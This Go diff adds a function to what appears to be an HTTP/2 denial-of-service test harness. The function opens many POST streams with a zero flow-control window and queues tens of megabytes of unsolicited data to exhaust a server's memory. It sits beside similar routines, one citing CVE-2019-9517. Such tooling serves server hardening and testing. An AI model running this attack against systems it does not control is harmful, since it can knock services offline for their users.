@@ -44,6 +44,35 @@ func zeroWindow(ctx context.Context, v *victim) {
 	})
 }
 
+// unreadRefusals sends as much of many bodies as a server takes unasked, and allows no byte of the refusals: who refuses a request must
+// forget its body before the refusal is read.
+func unreadRefusals(ctx context.Context, v *victim) {
+	const perStream, perConnection = 512 << 10, 60 << 20
+	piece := make([]byte, 16<<10)
+	v.each(ctx, func(ctx context.Context) error {
+		f, err := v.http2(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		for range perConnection / perStream {
+			id, err := f.request(false, "POST", trivial)
+			if err != nil {
+				return err
+			}
+			for range perStream / len(piece) {
+				if err := f.queue(func() error { return f.WriteData(id, false, piece) }); err != nil {
+					return err
+				}
+			}
+		}
+		if err := f.send(func() error { return nil }); err != nil {
+			return err
+		}
+		return f.held(ctx)
+	})
+}
+
 // slowHeads asks for answers that are all head, which no window bounds, and reads a few bytes now and then (CVE-2019-9517).
 func slowHeads(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
